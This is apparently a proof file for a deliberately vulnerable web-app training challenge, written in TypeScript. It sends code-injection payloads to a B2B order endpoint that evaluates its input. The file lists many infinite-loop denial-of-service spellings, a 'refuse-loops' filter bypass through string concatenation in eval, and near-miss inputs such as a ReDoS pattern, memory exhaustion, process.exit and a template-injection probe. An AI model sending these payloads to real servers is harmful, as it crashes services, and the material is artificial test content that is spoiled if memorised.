import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const send = (attacker: Attacker, orderLinesData: string) =>
  attacker.post('/b2b/v2/orders', { cid: 'grocer-7', orderLinesData })

/** Sends order lines as a new customer. */
const order =
  (orderLinesData: string): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    await send(attacker, orderLinesData)
  }

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.get('/api-docs')
    await attacker.becomeCustomer()
    await send(attacker, JSON.stringify([{ productId: 8, quantity: 500 }]))
    // The server accepts a sum although it is not a list, so it evaluates the text.
    await send(attacker, '7*7')
    await send(attacker, '(function dos() { while(true); })()')
  },
  spellings: {
    'without a function': order('while(true){}'),
    'by another loop': order('for(;;){}'),
    'with the condition at the end': order('do {} while (1)'),
    'in an arrow function': order('(() => { for (;;) ; })()'),
    'over and over, with a counter': order('for (let i = 0; i < 1e12; i++) {}'),
    'as a part of a list': order('[{ productId: 8, quantity: (() => { while (true); })() }]'),
    'by text that becomes code': order("eval('while(true);')"),
    'by a constructor': order("''.constructor.constructor('for(;;);')()"),
    'by a generator without an end': order('[...(function* () { for (;;) yield 1 })()].length'),
    'by calls': order('const f = (n) => n; [...Array(1000)].forEach(() => [...Array(5000)].forEach(f))'),
    'with quick patterns in it': order("while (/a/.test('a'));"),
    'by promises': order('(async () => { for (;;) await 0 })()'),
  },
  nearMisses: {
    'an order as partners write it': order(JSON.stringify([{ productId: 8, quantity: 500 }])),
    'a sum': order('7*7'),
    'a loop that ends': order(
      'let sum = 0; for (let i = 0; i < 1000; i++) sum += i; [{ productId: 1, quantity: sum }]',
    ),
    'a loop in quotation marks': order("'while(true);'"),
    'a loop in a comment': order('/* while(true); */ []'),
    'a loop in a function that nobody calls': order('function dos() { while(true); }'),
    'an error': order('throw new Error("Infinite loop detected - reached max iterations")'),
    'calls within calls, until there is no room': order('(function f() { f() })()'),
    'a slow pattern, which is another challenge': order(`/((a+)+)b/.test('${'a'.repeat(29)}')`),
    'a promise that never settles': order('new Promise(() => {})'),
    'memory without end': order("let text = 'a'; text = text.repeat(2 ** 29).repeat(2)"),
    'ending the program': order('process.exit(1)'),
    'as lines that are not text': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/b2b/v2/orders', { cid: 'x', orderLines: ['while(true);'] })
    },
    'as the name of the customer': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/b2b/v2/orders', { cid: '(function dos() { while(true); })()' })
    },
    'without a token': (attacker) => send(attacker, '(function dos() { while(true); })()'),
    'as a name, which is another hole': async (attacker) => {
      await attacker.becomeCustomer()
      const headers = { 'content-type': 'application/x-www-form-urlencoded' }
      await attacker.post('/profile', `username=${encodeURIComponent('#{(() => { while (true); })()}')}`, { headers })
      await attacker.get('/profile')
    },
  },
  bypasses: {
    'refuse-loops': order("eval('whi' + 'le(true);')"),
  },
})
